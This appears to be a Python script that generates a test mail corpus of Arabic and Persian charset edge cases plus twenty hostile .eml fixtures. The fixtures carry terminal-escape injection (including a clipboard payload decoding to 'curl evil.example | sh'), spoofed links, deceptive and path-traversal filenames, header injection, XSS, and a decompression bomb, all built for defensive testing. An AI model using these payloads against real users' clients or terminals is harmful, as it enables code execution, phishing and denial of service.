# ruff: noqa: E501 -- raw message literals read better unwrapped
"""Regenerate the mail corpus: ``python -m tests.data.mail.make_corpus`` from the repo root.

Two sets of ``.eml`` files, rebuilt byte for byte on every run (fixed dates, no
randomness, gzip without a timestamp):

* ``charsets/``: what Arabic- and Persian-speaking customers really send: windows-1256,
  ISO-8859-6 under labels Python lacks, x-mac-arabic, UTF-8 Persian with ZWNJ, cp1256
  mislabelled as ISO-8859-1, RFC 2047 subjects and RFC 2231 filenames in each.
  ``CHARSET_CASES`` says what the agent must see for each one.
* ``hostile/``: twenty messages built to attack the terminal or the parser.

The generic builders (``_msg``, ``_nested``) are shared with the IMAP tests'
generator in ``tests/sync/hostile_mail.py``.
"""

from __future__ import annotations

import base64
import gzip
import sys
import urllib.parse
from dataclasses import dataclass
from pathlib import Path

if __package__ in {None, ""}:  # run as a plain script: make the repo root importable
    sys.path.insert(0, str(Path(__file__).resolve().parents[3]))

from tests.sync.hostile_mail import _msg, _nested

HERE = Path(__file__).resolve().parent
ESC = "\x1b"
BEL = "\x07"
RLO = "\u202e"
ZWNJ = "\u200c"

COMPLAINT = "عيب مصنعي في الطاولة"  # "manufacturing defect in the table"
GREETING = "مرحبا، أين طلبي؟"
PERSIAN = f"سلام، می{ZWNJ}خواهم سفارش ۱۰۰۱ را لغو کنم"
PERSIAN_SUBJECT = f"درخواست لغو سفارش و بازپرداخت{ZWNJ}ها"


def _b(text: str, codec: str) -> str:
    return base64.b64encode(text.encode(codec)).decode()


def _q(text: str, codec: str) -> str:
    return "".join(
        "_"
        if byte == 0x20
        else chr(byte)
        if byte < 0x7F and chr(byte).isalnum()
        else f"={byte:02X}"
        for byte in text.encode(codec)
    )


def _pct(text: str, codec: str) -> str:
    return urllib.parse.quote(text.encode(codec), safe="")


@dataclass(frozen=True)
class CharsetCase:
    """One message of the charset set and what the agent must see in it."""

    name: str
    raw: bytes
    subject: str
    body: str  # must appear in the decoded body
    filenames: tuple[str, ...] = ()
    from_name: str = ""
    language: str | None = None


def _mixed(headers: str, parts: list[tuple[str, bytes]], *, mid: str) -> bytes:
    """A multipart/mixed message; each part is (its header block, its encoded body)."""
    body = b"".join(
        b"--CORPUS\r\n" + head.encode("ascii") + b"\r\n\r\n" + payload + b"\r\n"
        for head, payload in parts
    )
    return _msg(
        headers + f'\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="CORPUS"'
        f"\r\nMessage-ID: <{mid}@corpus.example>",
        body + b"--CORPUS--\r\n",
        mid=0,
    )


def _single(headers: str, body: bytes, *, mid: str) -> bytes:
    return _msg(
        headers + f"\r\nMIME-Version: 1.0\r\nMessage-ID: <{mid}@corpus.example>", body, mid=0
    )


def charset_cases() -> list[CharsetCase]:
    """The charset set: every label and encoding an Arabic or Persian shop meets."""
    pdf = base64.encodebytes(b"%PDF-1.4 corpus\n").replace(b"\n", b"\r\n").strip()
    invoice = "فاتورة الطاولة.pdf"
    receipt = f"رسید{ZWNJ}های سفارش ۱۰۰۱ خرداد.pdf"
    long_name = "صورة المنتج المكسور من الجهة اليسرى.jpg"
    # RFC 2231 continuation of a UTF-8 name split in the middle of a character
    receipt_pct = _pct(receipt, "utf-8")
    cut = receipt_pct.index("%", 25)
    return [
        CharsetCase(
            "01-windows-1256.eml",
            _mixed(
                f"Subject: =?windows-1256?B?{_b(COMPLAINT, 'cp1256')}?=\r\n"
                f"From: =?windows-1256?Q?{_q('أحمد علي', 'cp1256')}?= <ahmad@customer.example>\r\n"
                "To: support@shop.example\r\nDate: Mon, 02 Nov 2026 09:00:00 +0300\r\nContent-Language: ar",
                [
                    (
                        "Content-Type: text/plain; charset=windows-1256\r\nContent-Transfer-Encoding: 8bit",
                        f"{COMPLAINT}\r\nطلب رقم 1002".encode("cp1256"),
                    ),
                    (
                        "Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
                        f"Content-Disposition: attachment; filename*=windows-1256''{_pct(invoice, 'cp1256')}",
                        pdf,
                    ),
                ],
                mid="cp1256",
            ),
            subject=COMPLAINT,
            body=COMPLAINT,
            filenames=(invoice,),
            from_name="أحمد علي",
            language="ar",
        ),
        CharsetCase(
            "02-iso-8859-6.eml",
            _single(
                f"Subject: =?iso-8859-6?Q?{_q(GREETING, 'iso8859-6')}?=\r\n"
                "From: customer@example.com\r\nDate: Mon, 02 Nov 2026 09:05:00 +0300\r\n"
                "Content-Type: text/plain; charset=iso-8859-6",
                GREETING.encode("iso8859-6"),
                mid="iso88596",
            ),
            subject=GREETING,
            body=GREETING,
        ),
        CharsetCase(
            "03-iso-8859-6-i.eml",
            _mixed(
                f"Subject: =?iso-8859-6-i?B?{_b(COMPLAINT, 'iso8859-6')}?=\r\n"
                "From: customer2@example.com\r\nDate: Mon, 02 Nov 2026 09:10:00 +0300",
                [
                    (
                        'Content-Type: text/plain; charset="iso-8859-6-i"\r\nContent-Transfer-Encoding: quoted-printable',
                        _q(COMPLAINT, "iso8859-6").replace("_", "=20").encode(),
                    ),
                    (
                        "Content-Type: image/jpeg\r\nContent-Transfer-Encoding: base64\r\n"
                        f"Content-Disposition: attachment; filename*=iso-8859-6-i'ar'{_pct(long_name, 'iso8859-6')}",
                        base64.b64encode(b"\xff\xd8\xff\xe0 jpeg"),
                    ),
                ],
                mid="iso88596i",
            ),
            subject=COMPLAINT,
            body=COMPLAINT,
            filenames=(long_name,),
        ),
        CharsetCase(
            "04-x-mac-arabic.eml",
            _single(
                f"Subject: =?x-mac-arabic?B?{_b(GREETING, 'mac-arabic')}?=\r\n"
                "From: mac@customer.example\r\nDate: Mon, 02 Nov 2026 09:15:00 +0300\r\n"
                "Content-Type: text/plain; charset=x-mac-arabic\r\nContent-Transfer-Encoding: base64",
                base64.encodebytes(f"{GREETING}\n{COMPLAINT}".encode("mac-arabic")),
                mid="macarabic",
            ),
            subject=GREETING,
            body=COMPLAINT,
        ),
        CharsetCase(
            "05-persian-utf8-zwnj.eml",
            _mixed(
                # the subject is split across two encoded words in the middle of a letter
                f"Subject: =?utf-8?B?{base64.b64encode(PERSIAN_SUBJECT.encode()[:9]).decode()}?=\r\n"
                f" =?utf-8?B?{base64.b64encode(PERSIAN_SUBJECT.encode()[9:]).decode()}?=\r\n"
                f"From: =?utf-8?Q?{_q('زهرا رضایی', 'utf-8')}?= <zahra@customer.example>\r\n"
                f"To: =?utf-8?B?{_b('پشتیبانی فروشگاه', 'utf-8')}?= <support@shop.example>,\r\n"
                f" =?utf-8?Q?{_q('مدیر', 'utf-8')}?= <boss@shop.example>\r\n"
                "Date: Mon, 02 Nov 2026 09:20:00 +0330\r\nContent-Language: fa-IR",
                [
                    (
                        "Content-Type: text/plain; charset=utf-8\r\nContent-Transfer-Encoding: 8bit",
                        PERSIAN.encode(),
                    ),
                    (
                        "Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
                        "Content-Disposition: attachment;\r\n"
                        f" filename*0*=utf-8''{receipt_pct[:cut]};\r\n filename*1*={receipt_pct[cut:]}",
                        pdf,
                    ),
                ],
                mid="persian",
            ),
            subject=PERSIAN_SUBJECT,
            body=PERSIAN,
            filenames=(receipt,),
            from_name="زهرا رضایی",
            language="fa-ir",
        ),
        CharsetCase(
            "06-cp1256-labelled-latin1.eml",
            _single(
                f"Subject: =?iso-8859-1?Q?{_q(COMPLAINT, 'cp1256')}?=\r\n"
                "From: webmail@customer.example\r\nDate: Mon, 02 Nov 2026 09:25:00 +0300\r\n"
                "Content-Type: text/plain; charset=iso-8859-1\r\nContent-Transfer-Encoding: 8bit",
                COMPLAINT.encode("cp1256"),
                mid="mislabelled",
            ),
            subject=COMPLAINT,
            body=COMPLAINT,
        ),
        CharsetCase(
            "07-raw-8bit-cp1256-headers.eml",
            _single(
                "Subject: " + COMPLAINT.encode("cp1256").decode("utf-8", "surrogateescape") + "\r\n"
                "From: "
                + "سارا".encode("cp1256").decode("utf-8", "surrogateescape")
                + " <sara@customer.example>\r\nDate: Mon, 02 Nov 2026 09:30:00 +0300\r\n"
                "Content-Type: text/plain",
                GREETING.encode("cp1256"),
                mid="raw8bit",
            ),
            subject=COMPLAINT,
            body=GREETING,
            from_name="سارا",
        ),
        CharsetCase(
            "08-html-windows-1256.eml",
            _mixed(
                f"Subject: =?windows-1256?Q?{_q('شكوى', 'cp1256')}?= =?windows-1256?Q?{_q(' بخصوص الطلب', 'cp1256')}?=\r\n"
                "From: html@customer.example\r\nDate: Mon, 02 Nov 2026 09:35:00 +0300",
                [
                    (
                        "Content-Type: text/html; charset=windows-1256\r\nContent-Language: ar-SA",
                        f"<html><body><p>{COMPLAINT}</p><p><a href='https://shop.example/o/1003'>الطلب</a></p></body></html>".encode(
                            "cp1256"
                        ),
                    ),
                    (
                        'Content-Type: application/pdf; name="=?windows-1256?B?'
                        + _b(invoice, "cp1256")
                        + '?="\r\nContent-Transfer-Encoding: base64\r\nContent-Disposition: attachment',
                        pdf,
                    ),
                ],
                mid="html1256",
            ),
            subject="شكوى بخصوص الطلب",
            body=COMPLAINT,
            filenames=(invoice,),
            language="ar-sa",
        ),
        CharsetCase(
            "09-rfc2231-plain-continuation.eml",
            _mixed(
                "Subject: =?utf-8?Q?" + _q("فاکتور", "utf-8") + "?= invoice\r\n"
                "From: cont@customer.example\r\nDate: Mon, 02 Nov 2026 09:40:00 +0330",
                [
                    ("Content-Type: text/plain; charset=utf-8", "فاکتور پیوست است".encode()),
                    (
                        "Content-Type: application/pdf\r\nContent-Transfer-Encoding: base64\r\n"
                        'Content-Disposition: attachment;\r\n filename*0="invoice-2026-";\r\n'
                        ' filename*1="november-order-";\r\n filename*2="1004.pdf"',
                        pdf,
                    ),
                ],
                mid="continuation",
            ),
            subject="فاکتور invoice",
            body="فاکتور پیوست است",
            filenames=("invoice-2026-november-order-1004.pdf",),
        ),
        CharsetCase(
            "10-unlabelled-cp1256-body.eml",
            _single(
                f"Subject: =?UTF-8?B?{_b('سؤال عن الشحن', 'utf-8')}?=\r\n"
                "From: nolabel@customer.example\r\nDate: Mon, 02 Nov 2026 09:45:00 +0300\r\n"
                "Content-Type: text/plain\r\nContent-Transfer-Encoding: 8bit",
                f"{GREETING}\r\n{COMPLAINT}".encode("cp1256"),
                mid="unlabelled",
            ),
            subject="سؤال عن الشحن",
            body=COMPLAINT,
        ),
    ]


def _attachment(disposition: str, content_type: str = "application/octet-stream") -> str:
    return (
        f"--x\r\nContent-Type: {content_type}\r\nContent-Disposition: {disposition}\r\n\r\nMZ\r\n"
    )


def _with_attachments(subject: str, attachments: list[str], *, mid: int) -> bytes:
    return _msg(
        f'Subject: {subject}\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="x"',
        "--x\r\nContent-Type: text/plain\r\n\r\nsee the files\r\n"
        + "".join(attachments)
        + "--x--\r\n",
        mid=mid,
    )


def _utf8_word(text: str) -> str:
    return f"=?utf-8?b?{base64.b64encode(text.encode('utf-8', 'surrogatepass')).decode()}?="


OSC8 = f"{ESC}]8;;https://evil.example/login{ESC}\\"
OSC52 = f"{ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA=={BEL}"


def hostile_cases() -> dict[str, bytes]:
    """Twenty messages, each a different attack, by file name."""
    nested = _nested(200)
    nested_head, nested_body = nested.split("\r\n\r\n", 1)
    bomb = gzip.compress(b"\0" * 20_000_000, compresslevel=9, mtime=0)
    return {
        "01-csi-bel-subject.eml": _msg(
            "Subject: " + _utf8_word(f"Refund {ESC}[2J{ESC}[31mNOW{BEL}{OSC52}"), "body", mid=101
        ),
        "02-osc52-from-name.eml": _msg(
            f'Subject: clipboard\r\nFrom: "Boss {OSC52}" <boss@evil.example>', "osc 52", mid=102
        ),
        "03-osc8-body-link.eml": _msg(
            "Subject: your parcel\r\nContent-Type: text/plain; charset=utf-8",
            f"Track it {OSC8}https://shop.example/track{ESC}]8;;{ESC}\\ now",
            mid=103,
        ),
        "04-c1-controls.eml": _msg(
            "Subject: =?utf-8?q?c1_=C2=9B31m_red_=C2=9D0;title=07?=\r\n"
            "From: =?utf-8?q?=C2=9B8mEve=C2=85?= <eve@evil.example>\r\n"
            "Content-Type: text/plain; charset=utf-8",
            "before \u009b31m after \u009d2;x\u009c \u0085 next",
            mid=104,
        ),
        "05-bidi-override-filenames.eml": _with_attachments(
            "rlo filenames",
            [
                _attachment(f'attachment; filename="invoice{RLO}fdp.exe"'),
                _attachment(f"attachment; filename*=utf-8''{_pct(f'photo{RLO}gpj.scr', 'utf-8')}"),
                _attachment(
                    'attachment; filename="' + _utf8_word("report\u2066\u2067.pdf\u2069.js") + '"'
                ),
            ],
            mid=105,
        ),
        "06-path-traversal-filenames.eml": _with_attachments(
            "traversal",
            [
                _attachment('attachment; filename="../../../../etc/passwd"'),
                _attachment('attachment; filename="..\\\\..\\\\Windows\\\\System32\\\\evil.dll"'),
                _attachment("attachment; filename*=utf-8''%2Fetc%2Fcron.d%2Fjob"),
                _attachment('attachment; filename="...."'),
            ],
            mid=106,
        ),
        "07-escapes-in-filenames.eml": _with_attachments(
            "escape filenames",
            [
                _attachment(
                    "attachment; filename*=utf-8''%1B%5D52%3Bc%3BeA%3D%3D%07%1B%5B2Jnotes.txt"
                ),
                _attachment('attachment; filename="' + _utf8_word(f"{OSC8}click.pdf") + '"'),
                _attachment('attachment; filename="CON.txt"'),
                _attachment("attachment; filename*=utf-8''%C2%9B31mred%C2%9Dx%C2%9C.txt"),
                _attachment('attachment; filename="' + "ب" * 400 + '.pdf"'),
            ],
            mid=107,
        ),
        "08-one-megabyte-header.eml": _msg(
            "Subject: huge header\r\nX-Padding: " + "A" * 1_048_576, "huge header", mid=108
        ),
        "09-nesting-200-levels.eml": _msg(
            f"Subject: deep nesting\r\nMIME-Version: 1.0\r\n{nested_head}", nested_body, mid=109
        ),
        "10-compressed-bomb.eml": _msg(
            'Subject: compressed bomb\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="z"',
            "--z\r\nContent-Type: text/plain\r\n\r\nsmall text\r\n--z\r\n"
            'Content-Type: application/gzip; name="logs.gz"\r\nContent-Transfer-Encoding: base64\r\n'
            "Content-Encoding: gzip\r\n\r\n" + base64.encodebytes(bomb).decode() + "--z--\r\n",
            mid=110,
        ),
        "11-missing-boundary-line.eml": _msg(
            'Subject: no boundary line\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="never"',
            "there is no boundary line in this body at all",
            mid=111,
        ),
        "12-missing-boundary-parameter.eml": _msg(
            "Subject: no boundary parameter\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed",
            "--x\r\nContent-Type: text/plain\r\n\r\nparts without a declared boundary\r\n--x--\r\n",
            mid=112,
        ),
        "13-nul-bytes.eml": _msg(
            "Subject: nul\x00 bytes\r\nContent-Type: text/plain; charset=utf-8",
            b"a\x00b\x00c visible",
            mid=113,
        ),
        "14-invalid-base64.eml": _msg(
            "Subject: =?utf-8?b?!!bad*base64**?=\r\nContent-Type: text/plain; charset=utf-8\r\n"
            "Content-Transfer-Encoding: base64",
            "!!!!not base64 at all%%%\r\n====\r\n" + base64.b64encode("ok نص".encode()).decode(),
            mid=114,
        ),
        "15-header-injection.eml": _msg(
            "Subject: =?utf-8?q?hello=0D=0ABcc:_victim@shop.example=0D=0A=0D=0Ainjected?=\r\n"
            'From: "=?utf-8?q?Ali=0D=0AReply-To:_x@evil.example?=" <ali@evil.example>',
            "header injection",
            mid=115,
        ),
        "16-osc8-encoded-name-and-subject.eml": _msg(
            "Subject: " + _utf8_word(f"{OSC8}Your invoice{ESC}]8;;{ESC}\\") + "\r\n"
            "From: " + _utf8_word(f"Support {ESC}[8mhidden{ESC}[0m") + " <s@evil.example>\r\n"
            "To: " + _utf8_word(f"{OSC8}Agent{ESC}]0;pwned{BEL}") + " <agent@shop.example>",
            "osc 8 in headers",
            mid=116,
        ),
        "17-hostile-html.eml": _msg(
            "Subject: nasty html\r\nContent-Type: text/html; charset=utf-8",
            "<html><head><style>p{color:red}</style><script>alert(1)</script></head><body>"
            "<p style='display:none'>hidden</p><a href='javascript:alert(2)'>click</a> "
            "<a href='data:text/html,x'>data</a> <a href='https://shop.example/ok'>ok</a>"
            f"<img src='https://tracker.example/p.gif' alt='logo'>visible {ESC}[5m text &#27;[31m"
            f"&#x9b;2J {RLO}gnp.exe</body></html>",
            mid=117,
        ),
        "18-encoded-word-flood.eml": _msg(
            "Subject: " + "=?utf-8?q?a?= " * 10_000, "encoded word flood", mid=118
        ),
        "19-forwarded-hostile.eml": _msg(
            'Subject: fwd\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary="f"',
            "--f\r\nContent-Type: text/plain\r\n\r\nsee below\r\n--f\r\nContent-Type: message/rfc822\r\n\r\n"
            "Subject: " + _utf8_word(f"inner {ESC}[2J../../x{RLO}txt.exe") + "\r\n"
            "From: " + _utf8_word(f"Eve {OSC52}") + " <eve@evil.example>\r\n"
            "Content-Type: text/plain; charset=utf-8\r\n\r\n"
            f"inner body {ESC}]52;c;AAAA{BEL} done\r\n--f--\r\n",
            mid=119,
        ),
        "20-garbage-headers-and-ids.eml": _msg(
            'Subject: garbage\r\nFrom: <<<>>> ,,, "unterminated\r\n'
            f"Message-ID: garbage {ESC}[2J <<>> <a b@c> no-at-sign\r\n"
            f"References: <ok1@x> junk <{ESC}]52;c;AA{BEL}@evil> <ok2@x>\r\n"
            "In-Reply-To: (comment) <parent@x> trailing\r\nDate: Tue, 99 Foo 99999 99:99:99 +9999\r\n"
            "This line has no colon\r\n:empty name\r\nX-\x01: ctrl",
            "garbage headers",
            mid=120,
        ),
    }


def build_corpus() -> dict[str, bytes]:
    """Every corpus file by its path relative to this directory."""
    files = {f"charsets/{case.name}": case.raw for case in charset_cases()}
    files.update({f"hostile/{name}": raw for name, raw in hostile_cases().items()})
    return files


def main() -> None:
    for relative, raw in build_corpus().items():
        path = HERE / relative
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(raw)
    for folder in ("charsets", "hostile"):
        expected = {name.split("/", 1)[1] for name in build_corpus() if name.startswith(folder)}
        for stale in (HERE / folder).glob("*.eml"):
            if stale.name not in expected:
                stale.unlink()


if __name__ == "__main__":
    main()
